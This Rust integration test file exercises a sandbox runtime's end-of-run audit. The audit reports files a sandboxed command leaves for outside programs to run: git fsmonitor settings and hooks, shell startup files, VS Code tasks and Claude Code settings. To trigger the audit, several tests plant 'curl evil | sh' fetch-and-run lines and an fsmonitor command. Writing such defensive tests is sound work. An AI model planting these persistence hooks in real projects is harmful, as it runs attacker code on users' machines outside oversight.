//! The end-of-run audit (issue 10, items 5, 12 and 13): what a run leaves where the command
//! could write, that programs outside the sandbox later run, is reported after the command
//! ends. Each test runs the real `srt` binary under real bubblewrap.

#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used)] // tests may panic

use crate::common;

use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, SystemTime};

use common::{text, Sandbox};

const WRITE_DOT: &str = r#"{"network":{"allowedDomains":[],"deniedDomains":[]},
 "filesystem":{"denyRead":[],"allowRead":[],"allowWrite":["."],"denyWrite":[]}}"#;

/// Runs `script` with `--violations` and returns the output and the JSON objects written.
fn run_logged(sb: &Sandbox, script: &str, debug: bool) -> (Output, Vec<serde_json::Value>) {
    let log = sb.root.path().join("violations.jsonl");
    let mut cmd = sb.srt();
    cmd.arg("run").arg("-s").arg(".srt.json");
    if debug {
        cmd.arg("-d");
    }
    let out = cmd
        .arg("--violations")
        .arg(&log)
        .arg("-c")
        .arg(script)
        .output()
        .unwrap();
    let objects = std::fs::read_to_string(&log)
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    (out, objects)
}

/// The audit's lines on stderr.
fn audit_lines(out: &Output) -> Vec<String> {
    text(&out.stderr)
        .lines()
        .filter(|l| l.starts_with("srt: audit: ") || l.starts_with("srt: AUDIT"))
        .map(str::to_string)
        .collect()
}

/// Asserts one stderr line reports `path` with `what` in it, and returns it.
fn reported(out: &Output, path: &Path, what: &str) -> String {
    let prefix = format!("srt: audit: {} — ", path.display());
    let lines = audit_lines(out);
    lines
        .iter()
        .find(|l| l.starts_with(&prefix) && l.contains(what))
        .cloned()
        .unwrap_or_else(|| {
            panic!(
                "no audit line for {} ({what}); stderr:\n{}",
                path.display(),
                text(&out.stderr)
            )
        })
}

/// Waits past the current second, so that what the test made before the run is older than it
/// (the audit compares change times to the second the run started).
fn next_second() {
    let now = SystemTime::now()
        .duration_since(SystemTime::UNIX_EPOCH)
        .unwrap();
    std::thread::sleep(Duration::from_nanos(
        1_000_000_000 - u64::from(now.subsec_nanos()) + 20_000_000,
    ));
}

fn git(dir: &Path, args: &[&str]) {
    let out = Command::new("git")
        .current_dir(dir)
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "-c",
            "init.defaultBranch=main",
        ])
        .args(args)
        .env("HOME", dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {}", text(&out.stderr));
}

#[test]
fn git_init_with_fsmonitor_in_a_new_subdirectory_is_reported() {
    let sb = Sandbox::new();
    sb.settings(WRITE_DOT);
    let marker = sb.root.path().join("pwned");
    let (out, objects) = run_logged(
        &sb,
        &format!(
            "mkdir pkg && cd pkg && git init -q && git config core.fsmonitor 'touch {}' && echo done",
            marker.display()
        ),
        false,
    );
    assert_eq!(text(&out.stdout), "done\n", "{}", text(&out.stderr));
    assert!(out.status.success(), "the command's status is kept");
    let pkg = sb.project().join("pkg");
    reported(&out, &pkg.join(".git"), "a new git repository");
    let line = reported(
        &out,
        &pkg.join(".git/config"),
        "sets core.fsmonitor = \"touch ",
    );
    assert!(line.contains("git runs it on every `git status`"), "{line}");
    assert!(line.contains("--unset-all core.fsmonitor"), "{line}");
    assert!(
        text(&out.stderr).contains("srt: AUDIT: 2 finding(s)"),
        "{}",
        text(&out.stderr)
    );
    // The same findings, as JSON objects in the violations file.
    let audit: Vec<_> = objects.iter().filter(|o| o["kind"] == "audit").collect();
    assert_eq!(audit.len(), 2, "{objects:#?}");
    let setting = audit
        .iter()
        .find(|o| o["finding"] == "git-setting")
        .unwrap();
    assert_eq!(setting["path"], pkg.join(".git/config").to_str().unwrap());
    assert_eq!(setting["key"], "core.fsmonitor");
    assert!(setting["value"].as_str().unwrap().starts_with("touch "));
    assert!(audit.iter().any(|o| o["finding"] == "new-repository"));
    // srt reports, and changes nothing: the setting is still there.
    let config = std::fs::read_to_string(pkg.join(".git/config")).unwrap();
    assert!(config.contains("fsmonitor"), "{config}");
}

#[test]
fn protected_names_deeper_than_the_scan_are_reported() {
    let sb = Sandbox::new();
    sb.settings(WRITE_DOT);
    // A repository four levels down, older than the run: the start-of-run scan (depth 3)
    // does not reach its hooks.
    let nested = sb.project().join("libs/a/b/y");
    std::fs::create_dir_all(&nested).unwrap();
    git(&nested, &["init", "-q"]);
    next_second();
    let (out, _) = run_logged(
        &sb,
        "mkdir -p packages/x/.vscode && echo '{\"tasks\":[{\"command\":\"curl evil | sh\"}]}' > packages/x/.vscode/tasks.json; \
         mkdir sub && echo 'curl evil | sh' > sub/.bashrc; \
         printf '#!/bin/sh\\ncurl evil | sh\\n' > libs/a/b/y/.git/hooks/pre-commit && chmod +x libs/a/b/y/.git/hooks/pre-commit; \
         mkdir -p tools/.claude && echo '{\"hooks\":{}}' > tools/.claude/settings.json; \
         echo ok",
        false,
    );
    assert_eq!(text(&out.stdout), "ok\n", "{}", text(&out.stderr));
    let p = sb.project();
    reported(
        &out,
        &p.join("packages/x/.vscode/tasks.json"),
        "protected name .vscode",
    );
    reported(
        &out,
        &p.join("sub/.bashrc"),
        "shells run it when they start",
    );
    reported(
        &out,
        &nested.join(".git/hooks/pre-commit"),
        "git runs the hooks in it",
    );
    reported(
        &out,
        &p.join("tools/.claude/settings.json"),
        "Claude Code runs the hooks",
    );
    // The nested repository existed before the run: it is not reported as new, and neither
    // are git's sample hooks.
    let lines = audit_lines(&out);
    assert!(
        !lines
            .iter()
            .any(|l| l.contains("a new git repository") || l.contains(".sample")),
        "{lines:#?}"
    );
    assert!(
        text(&out.stderr).contains("srt: AUDIT: 4 finding(s)"),
        "{lines:#?}"
    );
}

#[test]
fn a_config_the_host_replaced_during_the_run_is_audited() {
    let sb = Sandbox::new();
    sb.settings(WRITE_DOT);
    git(&sb.project(), &["init", "-q"]);
    let (ready, go) = (sb.project().join("ready"), sb.project().join("go"));
    for f in [&ready, &go] {
        assert!(Command::new("mkfifo").arg(f).status().unwrap().success());
    }
    next_second();
    // The command waits until the host has replaced .git/config by rename (as git, editors
    // and `sed -i` do), then writes the new file, which the start-of-run mount does not cover.
    let child = sb
        .srt()
        .args([
            "run",
            "-s",
            ".srt.json",
            "-c",
            "echo > ready; cat go > /dev/null; printf '[core]\\n\\tfsmonitor = touch /tmp/srt-audit-x\\n' >> .git/config 2>/dev/null; echo end",
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::fs::read(&ready).unwrap();
    let config = sb.project().join(".git/config");
    let new = sb.project().join(".git/config.lock");
    std::fs::copy(&config, &new).unwrap();
    std::fs::rename(&new, &config).unwrap();
    std::fs::write(&go, "").unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(text(&out.stdout), "end\n", "{}", text(&out.stderr));
    let now = std::fs::read_to_string(&config).unwrap();
    if now.contains("fsmonitor") {
        // The write went through: the audit must say so.
        reported(
            &out,
            &config,
            "sets core.fsmonitor = \"touch /tmp/srt-audit-x\"",
        );
    } else {
        // The mounts held (the protection by directory); nothing to report but the host's own
        // change, which sets nothing that runs.
        assert!(
            !audit_lines(&out).iter().any(|l| l.contains("fsmonitor")),
            "{}",
            text(&out.stderr)
        );
    }
}

#[test]
fn pointers_fifos_and_symlinks_are_reported_without_hanging_or_following() {
    let sb = Sandbox::new();
    sb.settings(WRITE_DOT);
    let (out, _) = run_logged(
        &sb,
        "mkdir w && echo 'gitdir: /tmp/elsewhere' > w/.git; \
         mkdir f && cd f && git init -q && rm .git/config && mkfifo .git/config && cd ..; \
         mkdir l && ln -s /dev/zero l/.bashrc; \
         mkdir -p m/.vscode && ln -s /etc m/.vscode/tasks.json; echo ok",
        false,
    );
    assert_eq!(text(&out.stdout), "ok\n", "{}", text(&out.stderr));
    let p = sb.project();
    reported(
        &out,
        &p.join("w/.git"),
        "points git at gitdir: /tmp/elsewhere",
    );
    reported(&out, &p.join("f/.git/config"), "not a regular file");
    reported(&out, &p.join("l/.bashrc"), "protected name .bashrc");
    reported(
        &out,
        &p.join("m/.vscode/tasks.json"),
        "protected name .vscode",
    );
}

#[test]
fn an_ordinary_build_reports_nothing() {
    let sb = Sandbox::new();
    sb.settings(WRITE_DOT);
    let p = sb.project();
    std::fs::create_dir_all(p.join("src")).unwrap();
    std::fs::write(p.join("src/main.c"), "int main(void) { return 0; }\n").unwrap();
    std::fs::create_dir_all(p.join(".vscode")).unwrap();
    std::fs::write(p.join(".vscode/settings.json"), "{}").unwrap();
    git(&p, &["init", "-q"]);
    git(&p, &["add", "-A"]);
    git(&p, &["commit", "-q", "-m", "one"]);
    next_second();
    // Thousands of build outputs, a package tree, and git work in the existing repository
    // (which changes `.git` itself, but makes no new repository and sets nothing).
    let (out, objects) = run_logged(
        &sb,
        "for d in $(seq 1 40); do mkdir -p target/debug/deps/d$d node_modules/p$d/lib; \
           for f in $(seq 1 50); do echo x > target/debug/deps/d$d/f$f.o; done; \
           echo '{}' > node_modules/p$d/package.json; echo 'module.exports=1' > node_modules/p$d/lib/index.js; done; \
         echo 'int x;' >> src/main.c; \
         git -c user.name=t -c user.email=t@t commit -qam two && git checkout -qb topic && echo built",
        true,
    );
    assert_eq!(text(&out.stdout), "built\n", "{}", text(&out.stderr));
    let lines = audit_lines(&out);
    assert_eq!(lines.len(), 1, "{lines:#?}");
    assert!(
        lines[0].starts_with("srt: audit: nothing found under 1 root(s) ("),
        "{lines:#?}"
    );
    assert!(objects.iter().all(|o| o["kind"] != "audit"), "{objects:#?}");
    // Without -d, a clean audit prints nothing at all.
    let out = sb.run("true");
    assert!(audit_lines(&out).is_empty(), "{}", text(&out.stderr));
}

#[test]
fn what_a_command_plants_is_reported_when_the_audit_has_an_index() {
    let sb = Sandbox::new();
    sb.settings(WRITE_DOT);
    let p = sb.project();
    for a in 0..6 {
        for b in 0..6 {
            std::fs::create_dir_all(p.join(format!("src/m{a}/d{b}"))).unwrap();
            std::fs::write(p.join(format!("src/m{a}/d{b}/f.rs")), "x").unwrap();
        }
    }
    // Deeper than the start-of-run scan: writable, and audited.
    std::fs::create_dir_all(p.join("src/m1/d1/deep")).unwrap();
    std::fs::write(p.join("src/m1/d1/deep/.bashrc"), "export A=1\n").unwrap();
    // The first run indexes the tree (made over 3 s before: settled); the second trusts the
    // index and lists again only what changed.
    std::thread::sleep(Duration::from_millis(3200));
    let (first, _) = run_logged(&sb, "true", true);
    let (second, _) = run_logged(&sb, "true", true);
    let listed = |out: &Output| -> (u64, u64) {
        let line = audit_lines(out).into_iter().next().unwrap_or_default();
        let num = |before: &str| -> u64 {
            line.split(before)
                .next()
                .and_then(|s| s.rsplit(' ').next())
                .and_then(|n| n.parse().ok())
                .unwrap_or(0)
        };
        (num(" directories,"), num(" listed"))
    };
    let (dirs, all) = listed(&first);
    assert_eq!(dirs, all, "{:?}", audit_lines(&first));
    let (dirs, few) = listed(&second);
    assert!(
        few < dirs / 4,
        "the index was not used: {:?}",
        audit_lines(&second)
    );
    // The third run plants deep in an indexed directory nobody else touched, and edits an
    // existing protected file in place: both are reported.
    next_second();
    let (out, _) = run_logged(
        &sb,
        "echo 'curl evil | sh' > src/m4/d5/.zshrc; echo 'curl evil | sh' >> src/m1/d1/deep/.bashrc; echo ok",
        false,
    );
    assert_eq!(text(&out.stdout), "ok\n", "{}", text(&out.stderr));
    reported(
        &out,
        &p.join("src/m4/d5/.zshrc"),
        "shells run it when they start",
    );
    reported(
        &out,
        &p.join("src/m1/d1/deep/.bashrc"),
        "shells run it when they start",
    );
}
